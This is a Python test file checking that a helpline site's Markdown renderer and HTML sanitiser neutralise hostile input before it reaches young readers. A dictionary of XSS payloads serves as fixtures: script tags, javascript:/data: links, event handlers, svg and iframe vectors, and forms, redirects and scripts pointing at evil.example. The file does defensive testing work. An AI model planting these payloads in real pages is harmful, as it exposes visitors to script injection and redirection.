"""Markdown written in « Contenus » reaches a young person's browser inert, whatever
was put in: every class of active content is dropped on the server."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from helpline.news import plain_text, render_markdown, sanitise_html

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script_upper": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "javascript_link": "[clique](javascript:alert(1))",
    "javascript_html_link": '<a href="javascript:alert(1)">x</a>',
    "javascript_entity_link": '<a href="jav&#x61;script:alert(1)">x</a>',
    "javascript_spaced_link": '<a href=" javascript:alert(1)">x</a>',
    "vbscript_link": '<a href="vbscript:msgbox(1)">x</a>',
    "data_link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data_html_link": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data_image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "data_html_image": '<img src="data:image/png;base64,iVBOR">',
    "remote_image": "![pixel](https://tracker.example/p.gif)",
    "event_handler": '<p onclick="alert(1)" onmouseover="alert(2)">x</p>',
    "img_onerror": "<img src=x onerror=alert(1)>",
    "style_attr": '<p style="background:url(javascript:alert(1))">x</p>',
    "style_tag": "<style>body{display:none}</style>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "object": '<object data="x.swf"></object><embed src="x.swf">',
    "svg": '<svg onload="alert(1)"><script>alert(2)</script></svg>',
    "math": '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
    "form": '<form action="https://evil.example"><input name=a><button>go</button></form>',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "link_rel": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "autolink_js": "<javascript:alert(1)>",
}
SAFE_TAGS = {"p", "strong", "em", "ul", "ol", "li", "a", "h2", "h3", "h4", "br", "blockquote",
             "code", "pre", "hr"}


class _Elements(HTMLParser):
    """Every element and attribute a browser would build from the markup."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs) -> None:
        self.found.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def _elements(markup: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Elements()
    parser.feed(markup)
    parser.close()
    return parser.found


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_markdown_and_html_come_out_inert(name: str) -> None:
    rendered = render_markdown(f"Avant\n\n{HOSTILE[name]}\n\nAprès")
    for tag, attrs in _elements(rendered):
        assert tag in SAFE_TAGS, rendered
        assert set(attrs) <= {"href", "title", "rel"}, rendered
        if "href" in attrs:
            scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", attrs["href"] or "", re.I)
            assert scheme and scheme.group(1).lower() in {"http", "https", "mailto", "tel"}
    assert "Avant" in rendered and "Après" in rendered
    assert "<script" not in rendered.lower() and "alert(2)" not in rendered


def test_links_keep_only_web_mail_and_phone_and_open_safely() -> None:
    rendered = render_markdown("[3018](https://e-enfance.org) [mail](mailto:a@b.fr) "
                               "[tel](tel:3018) [ftp](ftp://x.example/)")
    assert rendered.count('rel="noopener noreferrer nofollow"') == 4
    assert 'href="https://e-enfance.org"' in rendered
    assert 'href="mailto:a@b.fr"' in rendered and 'href="tel:3018"' in rendered
    assert "ftp:" not in rendered


def test_formatting_survives_and_headings_start_below_the_page_title() -> None:
    rendered = render_markdown("# Titre\n\n**gras** *italique*\n\n- un\n- deux\n\n> cité")
    assert "<h2>Titre</h2>" in rendered and "<h1" not in rendered
    assert "<strong>gras</strong>" in rendered and "<em>italique</em>" in rendered
    assert "<li>un</li>" in rendered and "<blockquote>" in rendered


def test_the_html_rule_alone_drops_what_markdown_would_not_see() -> None:
    clean = sanitise_html('<p onclick="x()">Hi <strong>there</strong></p><script>bad()</script>'
                          '<a href="javascript:alert(1)">bad</a><a href="https://ok.example">'
                          'ok</a>')
    assert clean.startswith("<p>Hi <strong>there</strong></p>")
    assert "bad()" not in clean and "javascript:" not in clean
    assert 'href="https://ok.example"' in clean


def test_a_feed_summary_becomes_plain_text() -> None:
    hostile = ('<p>Un <b>conseil</b> &amp; plus<script>alert(1)</script>'
               '<style>p{}</style><img src=x onerror=alert(1)></p>')
    assert plain_text(hostile, 500) == "Un conseil & plus"
    assert plain_text("mot " * 200, 20).endswith("…")
    assert len(plain_text("mot " * 200, 20)) <= 20
